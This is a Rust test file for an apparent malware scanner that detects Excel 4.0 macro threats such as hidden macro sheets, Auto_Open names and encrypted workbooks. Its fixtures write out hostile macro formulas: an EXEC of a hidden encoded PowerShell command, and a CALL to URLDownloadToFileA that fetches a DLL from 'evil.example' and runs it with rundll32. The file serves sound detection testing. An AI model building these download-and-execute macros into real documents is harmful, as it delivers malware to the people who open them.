//! Workbooks built here, record by record, to reach what the corpus samples do not:
//! hidden macro sheets, EXEC/CALL with downloader strings, user Auto_Open names, encryption.

use fumidai_core::{hash_only, Finding, Limits, Scan};
use std::io::{Cursor, Write};

fn rec(rt: u16, data: &[u8]) -> Vec<u8> {
    let mut v = rt.to_le_bytes().to_vec();
    v.extend_from_slice(&(data.len() as u16).to_le_bytes());
    v.extend_from_slice(data);
    v
}

fn bof(dt: u16) -> Vec<u8> {
    let mut d = vec![0x00, 0x06];
    d.extend_from_slice(&dt.to_le_bytes());
    d.extend_from_slice(&[0; 12]);
    rec(0x0809, &d)
}

fn boundsheet(offset: u32, state: u8, sheet_type: u8, name: &str) -> Vec<u8> {
    let mut d = offset.to_le_bytes().to_vec();
    d.extend_from_slice(&[state, sheet_type, name.len() as u8, 0]);
    d.extend_from_slice(name.as_bytes());
    rec(0x0085, &d)
}

/// Lbl: flags, chKey, cch, cce, reserved, itab, 4 reserved, fHighByte, name.
fn lbl(flags: u16, name: &[u8]) -> Vec<u8> {
    let mut d = flags.to_le_bytes().to_vec();
    d.extend_from_slice(&[0, name.len() as u8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    d.extend_from_slice(name);
    rec(0x0018, &d)
}

fn ptg_str(s: &str) -> Vec<u8> {
    let mut v = vec![0x17, s.len() as u8, 0];
    v.extend_from_slice(s.as_bytes());
    v
}

fn formula(rgce: &[u8]) -> Vec<u8> {
    let mut d = vec![0u8; 20];
    d.extend_from_slice(&(rgce.len() as u16).to_le_bytes());
    d.extend_from_slice(rgce);
    rec(0x0006, &d)
}

/// Globals (with `extra` records after BOF) then one macro-sheet substream.
fn workbook(extra: &[Vec<u8>], state: u8, names: &[Vec<u8>], rgce: &[u8]) -> Vec<u8> {
    let build = |offset: u32| {
        let mut g = bof(0x0005);
        for e in extra {
            g.extend_from_slice(e);
        }
        g.extend(boundsheet(offset, state, 0x01, "Mac"));
        g.extend(boundsheet(0, 0, 0x00, "Sheet1"));
        for n in names {
            g.extend_from_slice(n);
        }
        g.extend(rec(0x000A, &[]));
        g
    };
    let offset = build(0).len() as u32;
    let mut s = build(offset);
    s.extend(bof(0x0040));
    s.extend(formula(rgce));
    s.extend(rec(0x000A, &[]));
    s
}

fn scan_biff(stream: &[u8]) -> (bool, Vec<Finding>) {
    let limits = Limits::default();
    let mut scan = Scan::new(&limits, hash_only);
    let found = fumidai_xlm::scan_biff(&mut scan, "a.xls", stream);
    (found, scan.into_findings())
}

fn detail<'a>(f: &'a [Finding], id: &str) -> Option<&'a str> {
    f.iter().find(|x| x.id == id).map(|x| x.detail.as_str())
}

#[test]
fn hidden_macro_sheet_with_exec_and_auto_open() {
    let mut rgce = ptg_str("powershell -w hidden -enc AAAA");
    rgce.extend_from_slice(&[0x42, 0x01, 0x6E, 0x00]); // EXEC, 1 argument
    let names = [lbl(0x0020, &[0x01]), lbl(0x0000, b"Auto_Open77")];
    let (found, f) = scan_biff(&workbook(&[], 0x02, &names, &rgce));
    assert!(found);
    assert!(
        detail(&f, "XLM_MACRO")
            .unwrap()
            .contains("'Mac' (very hidden)"),
        "{f:#?}"
    );
    let auto = detail(&f, "XLM_AUTO_OPEN").unwrap();
    assert!(
        auto.contains("built-in name Auto_Open") && auto.contains("'Auto_Open77'"),
        "{auto}"
    );
    let sus = detail(&f, "XLM_SUSPICIOUS_CALL").unwrap();
    assert!(sus.contains("EXEC") && sus.contains("powershell"), "{sus}");
    assert!(detail(&f, "XLM_HIDDEN_SHEET")
        .unwrap()
        .contains("very hidden"));
}

#[test]
fn visible_harmless_macro_sheet_raises_only_xlm_macro() {
    let rgce = [0x42, 0x00, 0x36, 0x00]; // HALT()
    let (found, f) = scan_biff(&workbook(&[], 0x00, &[lbl(0, b"Print_Area_x")], &rgce));
    assert!(found);
    let ids: Vec<_> = f.iter().map(|x| x.id).collect();
    assert_eq!(ids, vec!["XLM_MACRO"], "{f:#?}");
}

#[test]
fn encrypted_workbook_uses_only_clear_bof_records() {
    // A FILEPASS this crate cannot decrypt (unknown version): the BOUNDSHEET and formula bodies
    // are treated as ciphertext, yet the clear macro-sheet BOF is still seen.
    let filepass = rec(0x002F, &[0x01, 0x00, 0x09, 0x00, 0x09, 0x00]);
    let mut rgce = ptg_str("urlmon");
    rgce.extend_from_slice(&[0x42, 0x01, 0x96, 0x00]);
    let (found, f) = scan_biff(&workbook(&[filepass], 0x02, &[lbl(0x0020, &[0x01])], &rgce));
    assert!(found);
    let ids: Vec<_> = f.iter().map(|x| x.id).collect();
    assert!(ids.contains(&"XLM_ENCRYPTED_WORKBOOK"), "{f:#?}");
    assert!(
        detail(&f, "XLM_MACRO")
            .unwrap()
            .contains("encrypted workbook"),
        "{f:#?}"
    );
    for not in ["XLM_AUTO_OPEN", "XLM_SUSPICIOUS_CALL", "XLM_HIDDEN_SHEET"] {
        assert!(!ids.contains(&not), "{not} from ciphertext: {f:#?}");
    }
}

#[test]
fn not_biff_is_ignored() {
    let (found, f) = scan_biff(b"\x00\x00\x00\x00garbage");
    assert!(!found && f.is_empty());
}

fn package(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default();
    for (name, body) in parts {
        w.start_file(*name, opts).unwrap();
        w.write_all(body.as_bytes()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const RELS: &str = r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/Odd.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;

#[test]
fn ooxml_very_hidden_macro_sheet_with_call() {
    let wb = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId2"/><sheet name="Doc2" sheetId="2" state="veryHidden" r:id="rId1"/></sheets><definedNames><definedName name="auto_open_x" hidden="1">Doc2!$A$1</definedName></definedNames></workbook>"#;
    let sheet = r#"<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>CALL("URLMON","URLDownloadToFileA","JJCCJJ",0,"http://evil.example/p.dll","..\p.dll",0,0)</f></c></row><row r="2"><c r="A2"><f>EXEC("rundll32 ..\p.dll,Run")</f></c></row></sheetData></xm:macrosheet>"#;
    // No macro content type and an odd part name: the relationship alone leads to it.
    let pkg = package(&[
        (
            "[Content_Types].xml",
            r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#,
        ),
        ("xl/workbook.xml", wb),
        ("xl/_rels/workbook.xml.rels", RELS),
        ("XL/MacroSheets/Odd.xml", sheet),
    ]);
    let limits = Limits::default();
    let mut scan = Scan::new(&limits, hash_only);
    assert!(fumidai_xlm::scan_ooxml(&mut scan, "a.xlsm", &pkg));
    let f = scan.into_findings();
    assert!(
        detail(&f, "XLM_MACRO")
            .unwrap()
            .contains("'Doc2' (very hidden)"),
        "{f:#?}"
    );
    assert!(
        detail(&f, "XLM_AUTO_OPEN").unwrap().contains("auto_open_x"),
        "{f:#?}"
    );
    let sus = detail(&f, "XLM_SUSPICIOUS_CALL").unwrap();
    for want in [
        "CALL",
        "EXEC",
        "urldownloadtofile",
        "http://evil.example/p.dll",
        "rundll32",
    ] {
        assert!(sus.contains(want), "{want} missing: {sus}");
    }
    assert!(detail(&f, "XLM_HIDDEN_SHEET").is_some());
}

#[test]
fn plain_xlsx_has_no_xlm() {
    let wb = r#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1"/></sheets><definedNames><definedName name="Print_Area">S!$A$1</definedName></definedNames></workbook>"#;
    let pkg = package(&[
        ("xl/workbook.xml", wb),
        (
            "xl/worksheets/sheet1.xml",
            "<worksheet><f>SUM(A1)</f></worksheet>",
        ),
    ]);
    let limits = Limits::default();
    let mut scan = Scan::new(&limits, hash_only);
    assert!(!fumidai_xlm::scan_ooxml(&mut scan, "a.xlsx", &pkg));
    assert!(scan.findings().is_empty());
}

#[test]
fn inflated_budget_stops_package_reading() {
    let big = format!("<worksheet>{}</worksheet>", "x".repeat(100_000));
    let pkg = package(&[
        ("[Content_Types].xml", &big),
        ("xl/macrosheets/sheet1.xml", &big),
    ]);
    let limits = Limits {
        max_inflated_bytes: 1000,
        ..Limits::default()
    };
    let mut scan = Scan::new(&limits, hash_only);
    // The part name alone still shows the macro sheet; the budget is reported once.
    assert!(fumidai_xlm::scan_ooxml(&mut scan, "a.xlsm", &pkg));
    assert_eq!(
        scan.findings()
            .iter()
            .filter(|f| f.id == "SCAN_LIMIT_REACHED")
            .count(),
        1
    );
}
